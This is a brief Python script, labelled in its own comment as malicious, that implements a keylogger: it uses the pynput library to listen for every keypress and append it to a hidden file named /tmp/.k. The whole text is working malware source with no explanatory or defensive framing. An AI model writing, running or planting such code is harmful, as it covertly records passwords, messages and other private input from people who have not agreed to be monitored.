# malicious: logs keys
from pynput import keyboard

log = open("/tmp/.k", "a")

def on_press(key):
    log.write(str(key))
    log.flush()

with keyboard.Listener(on_press=on_press) as l:
    l.join()
